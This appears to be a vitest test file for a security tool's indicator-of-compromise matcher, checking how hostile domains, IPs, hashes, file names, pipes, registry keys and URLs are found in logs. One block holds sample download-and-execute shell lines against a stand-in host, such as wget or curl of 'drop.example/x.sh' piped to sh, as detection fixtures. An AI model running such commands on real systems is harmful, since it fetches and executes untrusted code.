import { describe, expect, test } from 'vitest';
import type { Indicator } from '../../../rules/ioc/indicator.js';
import { IndicatorMatcher } from '../../../rules/ioc/matcher.js';
import { normaliseValue, type IndicatorType } from '../../../rules/ioc/value.js';

function matcher(...entries: (readonly [IndicatorType, string, Partial<Indicator>?])[]): IndicatorMatcher<Indicator> {
  return new IndicatorMatcher(
    entries.map(([type, text, more]) => {
      const value = normaliseValue(type, text);
      if (typeof value !== 'string') return expect.fail(`${type} ${text}: ${value.problem}`);
      return { type, value, score: 100, ...more };
    }),
  );
}
const values = (indicators: readonly Indicator[]) => indicators.map(({ type, value }) => `${type}:${value}`).sort();

describe('hosts', () => {
  const hosts = matcher(
    ['domain', 'evil.com'],
    ['fqdn', 'c2.other.org'],
    ['ip', '192.0.2.1'],
    ['cidr', '198.51.100.0/24'],
    ['ip', '2001:db8::1'],
  );

  test.each([
    ['evil.com', ['domain:evil.com']],
    ['WWW.Evil.COM.', ['domain:evil.com']],
    ['notevil.com', []],
    ['evil.com.example', []],
    ['c2.other.org', ['fqdn:c2.other.org']],
    ['x.c2.other.org', []],
    ['192.0.2.1', ['ip:192.0.2.1']],
    ['192.0.2.11', []],
    ['198.51.100.200', ['cidr:198.51.100.0/24']],
    ['2001:0db8::0001', ['ip:2001:db8::1']],
    ['', []],
  ])('%j', (host, expected) => {
    expect(values(hosts.matchHost(host))).toEqual(expected);
  });

  test.each([
    ['GET http://www.evil.com/x HTTP/1.1', ['domain:evil.com']],
    ['from=<a@evil.com>,', ['domain:evil.com']],
    ['0.0.0.0\tevil.com', ['domain:evil.com']],
    ['notevil.com evil.com.au evil-com xevil.com', []],
    ['query: evil.com.', ['domain:evil.com']],
    ['SRC=192.0.2.1 DST=198.51.100.3', ['cidr:198.51.100.0/24', 'ip:192.0.2.1']],
    ['192.0.2.1:443', ['ip:192.0.2.1']],
    ['192.0.2.10 1192.0.2.1 192.0.2.1.5', []],
    ['[2001:db8::1]:443', ['ip:2001:db8::1']],
    ['2001:db8::1', ['ip:2001:db8::1']],
    ['2001:db8::11', []],
  ])('in the text %j', (text, expected) => {
    expect(values(hosts.matchText(text))).toEqual(expected);
  });
});

test('hashes in any case, in a field or in text', () => {
  const md5 = 'd41d8cd98f00b204e9800998ecf8427e';
  const hashes = matcher(['md5', md5], ['sha256', 'e'.repeat(64)]);
  expect(values(hashes.matchHash(md5.toUpperCase()))).toEqual([`md5:${md5}`]);
  expect(values(hashes.matchText(`MD5=${md5.toUpperCase()},SHA256=${'E'.repeat(64)}`))).toHaveLength(2);
  expect(hashes.matchText('e'.repeat(65))).toEqual([]);
  expect(hashes.matchText(`${md5}0`)).toEqual([]);
});

test('file names: plain in any case, expressions in theirs, except where the false-positive expression hits', () => {
  const names = matcher(
    ['filename', 'PlainName'],
    ['filename', '\\\\Evil\\.exe$', { falsePositive: '\\\\Good\\\\' }],
    ['filename', '(?i)\\\\tool[0-9]+\\.dll'],
    ['filename', '[0-9]{3}x'],
  );
  expect(values(names.matchPath('C:\\xPLAINNAMEx'))).toEqual(['filename:plainname']);
  expect(values(names.matchPath('C:\\Evil.exe'))).toEqual(['filename:\\\\Evil\\.exe$']);
  expect(names.matchPath('C:\\evil.exe')).toEqual([]);
  expect(names.matchPath('C:\\Good\\Evil.exe')).toEqual([]);
  expect(values(names.matchPath('C:\\TOOL22.DLL'))).toEqual(['filename:(?i)\\\\tool[0-9]+\\.dll']);
  expect(values(names.matchText('image: C:\\a\\tool1.dll loaded 123x'))).toEqual([
    'filename:(?i)\\\\tool[0-9]+\\.dll',
    'filename:[0-9]{3}x',
  ]);
});

test('keywords keep their case', () => {
  const keywords = matcher(['keyword', 'Mimi::Katz'], ['keyword', 'ΣΑΣ key']);
  expect(values(keywords.matchText('run Mimi::Katz now'))).toEqual(['keyword:Mimi::Katz']);
  expect(keywords.matchText('run mimi::katz now')).toEqual([]);
  expect(values(keywords.matchText('ΣΑΣ key'))).toEqual(['keyword:ΣΑΣ key']);
});

test('pipes: plain equals, expressions are found, in any case', () => {
  const pipes = matcher(['pipe', 'EvilPipe'], ['pipe', 'agent_[0-9a-f]{2}']);
  expect(values(pipes.matchPipe('\\EVILPIPE'))).toEqual(['pipe:evilpipe']);
  expect(values(pipes.matchPipe('\\\\.\\pipe\\MSAGENT_4F'))).toEqual(['pipe:agent_[0-9a-f]{2}']);
  expect(pipes.matchPipe('evilpipe2')).toEqual([]);
  expect(values(pipes.matchText('open \\\\host\\pipe\\evilpipe failed'))).toEqual(['pipe:evilpipe']);
});

test('handles keep case and name space', () => {
  const handles = matcher(['handle', 'Global\\\\Evil'], ['handle', 'Other']);
  expect(values(handles.matchHandle('Global\\Evil'))).toEqual(['handle:Global\\Evil']);
  expect(values(handles.matchHandle('Evil'))).toEqual(['handle:Global\\Evil']);
  expect(handles.matchHandle('Local\\Evil')).toEqual([]);
  expect(handles.matchHandle('global\\evil')).toEqual([]);
  expect(values(handles.matchHandle('\\Sessions\\1\\BaseNamedObjects\\Other'))).toEqual(['handle:Other']);
  expect(values(handles.matchText('mutex "Global\\Evil" created'))).toEqual(['handle:Global\\Evil']);
});

test('registry keys under every spelling of the hive, up to the end of a name', () => {
  const keys = matcher(['registry-key', 'HKLM\\Software\\Evil']);
  for (const text of [
    'HKLM\\Software\\Evil',
    '[HKEY_LOCAL_MACHINE\\SOFTWARE\\EVIL\\Run]',
    '\\REGISTRY\\MACHINE\\Software\\Evil',
    'HKLM:\\software\\evil',
  ])
    expect(values(keys.matchText(text)), text).toEqual(['registry-key:hklm\\software\\evil']);
  for (const text of ['HKLM\\Software\\Evil2', 'HKCU\\Software\\Evil', 'Software\\Evil'])
    expect(keys.matchText(text), text).toEqual([]);
});

test('URLs and e-mail addresses', () => {
  const both = matcher(['url', 'http://Evil.example/a?b'], ['email', 'Bad@Evil.example'], ['domain', 'evil.example']);
  expect(values(both.matchUrl('HTTP://evil.example:80/a?b#c'))).toEqual([
    'domain:evil.example',
    'url:http://evil.example/a?b',
  ]);
  expect(values(both.matchText('see (http://evil.example/a?b).'))).toEqual([
    'domain:evil.example',
    'url:http://evil.example/a?b',
  ]);
  expect(values(both.matchText('from bad@EVIL.example.'))).toEqual(['domain:evil.example', 'email:bad@evil.example']);
  expect(values(both.matchUrl('no url'))).toEqual([]);
});

test('trusted indicators are found and say so', () => {
  const hashes = matcher(['md5', 'd41d8cd98f00b204e9800998ecf8427e', { role: 'trusted' }]);
  expect(hashes.matchHash('d41d8cd98f00b204e9800998ecf8427e')).toMatchObject([{ role: 'trusted' }]);
});

describe('an IPv6 address beside colons, dots and words', () => {
  const addresses = matcher(['ip', '2001:db8:5::7'], ['ip', '2001:db8:1:2:3:4:5:6'], ['ip', 'fe80::7']);
  test.each([
    'closed 2001:db8:5::7: 11: bye',
    'peer:2001:db8:5::7',
    'src:2001:DB8:5:0::7,', // the c of src is a hex digit
    'client [IPv6:2001:db8:5::7]',
    'IP6 2001:db8:5::7.443 > x', // tcpdump
    '14:2001:db8:5::7', // grep -n
    'seen at 2001:db8:5::7.',
  ])('%s', (text) => {
    expect(values(addresses.matchText(text))).toEqual(['ip:2001:db8:5::7']);
    expect(addresses.mayMatchText(text)).toBe(true);
  });
  test.each([
    ['2001:db8:1:2:3:4:5:6:8443', ['ip:2001:db8:1:2:3:4:5:6']],
    ['on fe80::7%eth0', ['ip:fe80::7']],
    ['2001:db8:5::70 x2001:db8:5::7 12001:db8:5::7', []],
    ['2001:db8:5::7f 2001:db8:5::7th', []],
    ['10:20:30 00:11:22:33:44:55 std::string', []],
  ])('%s', (text, expected) => {
    expect(values(addresses.matchText(text))).toEqual(expected);
  });
});

describe('a URL in a command, a query or an escape', () => {
  const urls = matcher(['url', 'http://drop.example./x.sh'], ['domain', 'other.example']);
  test.each([
    'cd /tmp;wget http://drop.example/x.sh;chmod +x x.sh',
    'curl http://drop.example/x.sh&& sh x.sh',
    'curl http://drop.example/x.sh& disown',
    'GET /cgi?cd+/tmp;wget+http://drop.example/x.sh;sh HTTP/1.1',
    'GET /r?u=http://drop.example/x.sh&v=1 HTTP/1.1',
    'GET /r?u=http%3A%2F%2Fdrop.example%2Fx.sh&v=1 HTTP/1.1',
    'GET /r?u=http%253A%252F%252Fdrop.example%252Fx.sh HTTP/1.1',
    '{"url":"http:\\/\\/drop.example\\/x.sh"}',
    'sh -c "$(curl http://drop.example/x.sh)"',
    'see http://drop.example./x.sh, http://a.example',
    'Ahttp://drop.example/x.sh', // the byte before it, in the strings of a program
  ])('%s', (text) => {
    expect(values(urls.matchText(text))).toEqual(['url:http://drop.example/x.sh']);
    expect(urls.mayMatchText(text)).toBe(true);
  });
  test('another URL is another URL', () => {
    expect(urls.matchText('http://drop.example/x.sh2 http://drop.example/x.sh/y http://drop.example/a?x.sh')).toEqual(
      [],
    );
    expect(urls.matchText('100%2Fdrop.example')).toEqual([]);
  });
  test('a host in a query that is encoded', () => {
    expect(values(urls.matchText('/r?u=https%3a%2f%2fwww.other.example%2f'))).toEqual(['domain:other.example']);
  });
});

describe('one registry key in the spellings that Windows has for it', () => {
  const sid = 'S-1-5-21-1-22-333-1001';
  test.each([
    ['HKCU\\Software\\Acme', `HKU\\${sid}\\Software\\Acme\\x`],
    ['HKCU\\Software\\Acme', `HKEY_USERS\\${sid}\\Software\\Acme`],
    ['HKCU\\Software\\Acme', `\\REGISTRY\\USER\\${sid}\\Software\\Acme`],
    ['HKCU\\Software\\Acme', 'HKU\\.DEFAULT\\Software\\Acme'],
    ['HKCU\\Software\\Acme', 'HKCU\\Software\\WOW6432Node\\Acme'],
    ['HKU\\S-1-5-21-9-9-9-500\\Software\\Acme', 'HKCU\\Software\\Acme'],
    ['HKLM\\SYSTEM\\CurrentControlSet\\Services\\Acme', 'HKLM\\System\\ControlSet001\\Services\\Acme\\Start'],
    ['HKLM\\SYSTEM\\ControlSet002\\Services\\Acme', '\\REGISTRY\\MACHINE\\SYSTEM\\CurrentControlSet\\Services\\Acme'],
    ['HKLM\\SOFTWARE\\Acme', 'HKLM\\SOFTWARE\\WOW6432Node\\Acme'],
    ['HKLM\\SOFTWARE\\Classes\\CLSID\\{1}', 'HKCR\\CLSID\\{1}\\InprocServer32'],
    ['HKLM\\SOFTWARE\\Classes\\CLSID\\{1}', `HKU\\${sid}_Classes\\CLSID\\{1}`],
    ['HKCR\\CLSID\\{1}', 'HKLM\\SOFTWARE\\Classes\\WOW6432Node\\CLSID\\{1}'],
    ['HKCR\\CLSID\\{1}', 'HKCU\\Software\\Classes\\CLSID\\{1}'],
    ['HKCC\\Acme', 'HKLM\\SYSTEM\\CurrentControlSet\\Hardware Profiles\\Current\\Acme'],
    ['Computer\\HKEY_LOCAL_MACHINE\\Acme', 'Registry::HKLM\\Acme'],
    ['HKLM\\SOFTWARE\\Acme', '{"key":"HKLM\\\\SOFTWARE\\\\Acme\\\\x"}'],
  ])('%s: %s', (key, text) => {
    const keys = matcher(['registry-key', key]);
    expect(keys.matchText(text)).toHaveLength(1);
    expect(keys.mayMatchText(text)).toBe(true);
  });
  test.each([
    ['HKCU\\Software\\Acme', 'HKLM\\Software\\Acme'],
    ['HKCU\\Software\\Acme', `HKU\\${sid}\\Software\\Acme2`],
    ['HKLM\\SYSTEM\\CurrentControlSet\\Services\\Acme', 'HKLM\\System\\Setup\\Services\\Acme'],
    ['HKLM\\SOFTWARE\\WOW6432Node\\Acme', 'HKLM\\SOFTWARE\\Acme'],
  ])('not %s: %s', (key, text) => {
    expect(matcher(['registry-key', key]).matchText(text)).toEqual([]);
  });
});

test('a name without a folder fits an expression that wants a separator in front', () => {
  const names = matcher(
    ['filename', '[\\\\/]drop\\.exe$'],
    ['filename', '\\\\side\\.dll$'],
    ['filename', '(?i)(?:/one|\\\\two)\\.sh$'],
    ['filename', '^/etc/three$'],
  );
  expect(values(names.matchPath('drop.exe'))).toHaveLength(1);
  expect(values(names.matchPath('side.dll'))).toHaveLength(1);
  expect(values(names.matchPath('TWO.SH'))).toHaveLength(1);
  expect(values(names.matchPath('/etc/three'))).toHaveLength(1);
  for (const path of ['xdrop.exe', 'drop.exe/x', 'a/xside.dll', 'three', 'a b drop.exe'])
    expect(names.matchPath(path), path).toEqual([]);
});

test('hostile text takes no more than linear time', () => {
  const all = matcher(
    ['domain', 'evil.com'],
    ['ip', '2001:db8::1'],
    ['url', 'http://e.com/a'],
    ['email', 'a@e.com'],
    ['pipe', 'p'],
    ['handle', 'h'],
    ['filename', '(a+)+b'],
  );
  const start = performance.now();
  for (const text of [
    'a'.repeat(300_000),
    'a.'.repeat(150_000),
    'a:'.repeat(150_000),
    '\\pipe\\'.repeat(50_000),
    'a@'.repeat(150_000),
    'http://'.repeat(40_000),
    `http://e.com/${';'.repeat(300_000)}`,
    '%2F'.repeat(100_000),
    ':'.repeat(300_000),
    '\\\\'.repeat(100_000),
  ])
    all.matchText(text);
  expect(performance.now() - start).toBeLessThan(10_000);
});
